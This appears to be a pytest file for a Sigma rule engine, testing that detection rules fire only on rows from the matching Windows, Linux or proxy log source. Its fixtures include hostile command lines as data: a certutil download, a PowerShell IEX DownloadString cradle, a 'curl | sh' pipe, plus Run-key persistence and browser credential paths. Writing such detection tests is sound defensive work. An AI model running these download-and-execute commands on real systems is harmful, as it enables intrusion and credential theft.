"""Log-source routing: a rule runs only on the rows of the log it was written for."""

from __future__ import annotations

from pathlib import Path

import polars as pl
import pytest

from qalqan.detect.sigma import SigmaEngine
from qalqan.detect.sigma.logsource import LogSource, RowSource, WindowsEventLog

RULES = Path(__file__).parent / "sigma_rules" / "routing"
SYSMON = "Microsoft-Windows-Sysmon/Operational"

CERTUTIL = "7c0e5a10-0000-4000-8000-000000000001"
WHOAMI_SYSTEM = "7c0e5a10-0000-4000-8000-000000000002"
STARTUP_FILE = "7c0e5a10-0000-4000-8000-000000000003"
RUN_DELETED = "7c0e5a10-0000-4000-8000-000000000004"
RUN_CREATED = "7c0e5a10-0000-4000-8000-000000000005"
RUN_TOUCHED = "7c0e5a10-0000-4000-8000-000000000006"
LOG_CLEARED = "7c0e5a10-0000-4000-8000-000000000007"
DOWNLOAD_STRING = "7c0e5a10-0000-4000-8000-000000000008"
SYSMON_CONFIG = "7c0e5a10-0000-4000-8000-000000000009"
CURL_SHELL = "7c0e5a10-0000-4000-8000-00000000000a"
PROXY_AGENT = "7c0e5a10-0000-4000-8000-00000000000b"


def _frame(*events: dict[str, str]) -> pl.DataFrame:
    names = sorted({name for event in events for name in event})
    return pl.DataFrame(
        [{name: event.get(name) for name in names} for event in events],
        schema=dict.fromkeys(names, pl.String),
    )


def _hits(frame: pl.DataFrame) -> list[tuple[int, str]]:
    engine = SigmaEngine.from_paths([RULES])
    assert not engine.skipped
    return [(hit["row"], hit["rule"]) for hit in engine.match(frame).iter_rows(named=True)]


CERTUTIL_FIELDS = {
    "Image": r"C:\Windows\System32\certutil.exe",
    "CommandLine": "certutil -urlcache -f http://x/a.exe a.exe",
}


def test_process_creation_rules_skip_other_sysmon_events_with_the_same_fields() -> None:
    frame = _frame(
        {"Channel": SYSMON, "EventID": "1", **CERTUTIL_FIELDS},
        {"Channel": SYSMON, "EventID": "11", **CERTUTIL_FIELDS},
        {"Channel": SYSMON, "EventID": "3", **CERTUTIL_FIELDS},
    )
    assert _hits(frame) == [(0, CERTUTIL)]


def test_security_4688_is_a_process_creation_with_sysmon_field_names() -> None:
    frame = _frame(
        {
            "Channel": "Security",
            "EventID": "4688",
            "NewProcessName": r"C:\Windows\System32\whoami.exe",
            "SubjectDomainName": "NT AUTHORITY",
            "SubjectUserName": "SYSTEM",
            "MandatoryLabel": "S-1-16-16384",
        },
        {
            "Channel": "Security",
            "EventID": "4688",
            "NewProcessName": r"C:\Windows\System32\whoami.exe",
            "SubjectDomainName": "CORP",
            "SubjectUserName": "alice",
            "MandatoryLabel": "S-1-16-8192",
        },
        {"Channel": "Security", "EventID": "4689", "NewProcessName": r"C:\x\whoami.exe"},
        {
            "Channel": SYSMON,
            "EventID": "1",
            "Image": r"C:\Windows\System32\whoami.exe",
            "User": r"NT AUTHORITY\SYSTEM",
            "IntegrityLevel": "System",
        },
    )
    assert _hits(frame) == [(0, WHOAMI_SYSTEM), (3, WHOAMI_SYSTEM)]


def test_registry_categories_follow_the_sysmon_event_type() -> None:
    key = r"HKU\S-1\Software\Microsoft\Windows\CurrentVersion\Run\Updater"
    frame = _frame(
        {"Channel": SYSMON, "EventID": "12", "EventType": "DeleteValue", "TargetObject": key},
        {"Channel": SYSMON, "EventID": "12", "EventType": "CreateKey", "TargetObject": key},
        {"Channel": SYSMON, "EventID": "13", "EventType": "SetValue", "TargetObject": key},
        {"Channel": SYSMON, "EventID": "11", "TargetObject": key},
    )
    assert _hits(frame) == [
        (0, RUN_DELETED),
        (0, RUN_TOUCHED),
        (1, RUN_CREATED),
        (1, RUN_TOUCHED),
        (2, RUN_TOUCHED),
    ]


def test_services_follow_the_channel() -> None:
    frame = _frame(
        {"Channel": "Security", "EventID": "1102"},
        {"Channel": "System", "EventID": "1102"},
        {"Channel": SYSMON, "EventID": "16"},
        {"Channel": "Security", "EventID": "16"},
        {"Provider_Name": "Microsoft-Windows-Sysmon", "EventID": "16"},
    )
    assert _hits(frame) == [(0, LOG_CLEARED), (2, SYSMON_CONFIG), (4, SYSMON_CONFIG)]


def test_powershell_script_blocks() -> None:
    text = "IEX (New-Object Net.WebClient).DownloadString('http://x')"
    frame = _frame(
        {
            "Channel": "Microsoft-Windows-PowerShell/Operational",
            "EventID": "4104",
            "ScriptBlockText": text,
        },
        {
            "Channel": "Microsoft-Windows-PowerShell/Operational",
            "EventID": "4103",
            "ScriptBlockText": text,
        },
        {"Channel": "Windows PowerShell", "EventID": "4104", "ScriptBlockText": text},
    )
    assert _hits(frame) == [(0, DOWNLOAD_STRING)]


def test_file_events() -> None:
    target = r"C:\Users\bob\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\x.vbs"
    frame = _frame(
        {"Channel": SYSMON, "EventID": "11", "TargetFilename": target},
        {"Channel": SYSMON, "EventID": "23", "TargetFilename": target},
    )
    assert _hits(frame) == [(0, STARTUP_FILE)]


def test_other_products_run_on_frames_that_have_their_fields() -> None:
    linux = _frame({"Image": "/usr/bin/curl", "CommandLine": "curl -s http://x | sh"})
    proxy = _frame({"c-useragent": "python-requests/2.31", "cs-host": "x.example"})
    lacking = _frame({"Image": "/usr/bin/curl"})

    assert _hits(linux) == [(0, CURL_SHELL)]
    assert _hits(proxy) == [(0, PROXY_AGENT)]
    assert _hits(lacking) == []


def test_windows_frames_run_only_windows_rules() -> None:
    frame = _frame(
        {
            "Channel": SYSMON,
            "EventID": "1",
            "Image": "/usr/bin/curl",
            "CommandLine": "curl -s http://x | sh",
            "FileName": r"C:\Users\bob\AppData\Local\Chrome\User Data\Default\Login Data",
        }
    )
    assert _hits(frame) == []


@pytest.mark.parametrize(
    ("channel", "event_id", "event_type", "service", "categories"),
    [
        (SYSMON, "1", "", "sysmon", "process_creation"),
        (SYSMON, "26", "", "sysmon", "file_delete file_delete_detected"),
        (SYSMON, "12", "DeleteKey", "sysmon", "registry_delete registry_event"),
        (SYSMON, "12", "CreateKey", "sysmon", "registry_add registry_event"),
        (SYSMON, "255", "", "sysmon", "sysmon_error"),
        ("microsoft-windows-powershell/operational", "4103", "", "powershell", "ps_module"),
        ("Windows PowerShell", "400", "", "powershell-classic", "ps_classic_start"),
        ("Microsoft-Windows-Windows Defender/Operational", "1116", "", "windefend", ""),
        ("Microsoft-Windows-TaskScheduler/Operational", "142", "", "taskscheduler", ""),
        ("Microsoft-Windows-SMBServer/Connectivity", "4000", "", "smbserver-connectivity", ""),
        ("Somebody-Else/Operational", "1", "", None, ""),
    ],
)
def test_windows_row_sources(
    channel: str, event_id: str, event_type: str, service: str | None, categories: str
) -> None:
    keys = {"Channel": channel, "EventID": event_id, "EventType": event_type}
    found = WindowsEventLog.source(keys)
    assert found == RowSource("windows", service, frozenset(categories.split()), found.aliases)


def test_a_row_source_serves_rules_that_ask_for_less() -> None:
    source = WindowsEventLog.source({"Channel": "Security", "EventID": "4688"})

    assert source.serves(LogSource("windows", "process_creation"))
    assert source.serves(LogSource("windows", service="security"))
    assert source.serves(LogSource("windows"))
    assert not source.serves(LogSource("windows", "process_creation", "sysmon"))
    assert not source.serves(LogSource("linux", "process_creation"))


def test_services_sigmahq_names_differently_still_route() -> None:
    source = WindowsEventLog.source({"Channel": "Microsoft-Windows-LDAP-Client/Debug"})

    assert source.serves(LogSource("windows", service="ldap"))
    assert source.serves(LogSource("windows", service="ldap_debug"))
